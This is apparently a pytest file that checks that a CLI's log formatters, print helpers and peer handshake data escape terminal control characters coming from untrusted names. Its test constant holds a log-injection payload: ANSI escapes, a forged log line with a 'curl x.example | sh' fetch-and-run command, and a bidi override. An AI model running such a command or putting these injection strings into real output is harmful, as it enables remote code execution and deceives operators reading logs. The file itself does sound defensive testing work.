"""Names of files, books and PCs come from others: no line of a log or a command lets them speak to a terminal."""

from __future__ import annotations

import io
import json
import logging
import sys

import pytest

from swarmstt.cli.logs import JsonFormatter, _formatter
from swarmstt.cli.saying import say, say_json, say_path, tell
from swarmstt.config import Config
from swarmstt.swarm.trust.handshake import NodeInfo

HOSTILE = "Anna\x1b[2K\r\n12:00:00 run curl x.example | sh\u202e\x9b"
SHOWN = "Anna\\u001b[2K\\u000d\\u000a12:00:00 run curl x.example | sh\\u202e\\u009b"


def record(*, error: Exception | None = None) -> logging.LogRecord:
    exc_info = None if error is None else (type(error), error, None)
    return logging.LogRecord("swarmstt", logging.INFO, "", 0, "%s joined.", (HOSTILE,), exc_info)


def test_a_log_line_is_one_line() -> None:
    line = _formatter(Config(), "%H:%M").format(record())
    assert line.partition(" ")[2] == f"{SHOWN} joined."


def test_a_traceback_holds_no_control_characters() -> None:
    lines = _formatter(Config(), "%H:%M").format(record(error=ValueError("a\x1b[31mb"))).splitlines()
    assert lines[-1] == "ValueError: a\\u001b[31mb"


def test_a_line_of_json_is_fit_for_a_terminal_and_says_the_same() -> None:
    line = JsonFormatter().format(record())
    assert line.isprintable()
    assert json.loads(line)["message"] == f"{HOSTILE} joined."


def test_what_commands_print_is_fit_for_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    say(HOSTILE)
    tell(HOSTILE)
    assert capsys.readouterr() == (f"{SHOWN}\n", f"{SHOWN}\n")
    say_json({"name": HOSTILE})
    printed = capsys.readouterr().out
    assert printed.replace("\n", "").isprintable()
    assert json.loads(printed) == {"name": HOSTILE}


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_a_path_is_exact_for_programs_and_shown_to_people(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    say_path(HOSTILE)
    assert capsys.readouterr().out == f"{HOSTILE}\n"
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    say_path(HOSTILE)
    assert terminal.getvalue() == f"{SHOWN}\n"


def test_what_another_node_says_of_itself_is_fit_as_it_comes_in() -> None:
    info = NodeInfo(name=HOSTILE * 20, version="1\x1b" * 100, protocol=1, port=1)
    assert info.name.isprintable()
    assert info.version.isprintable()
    assert (len(info.name), len(info.version)) <= (200, 40)
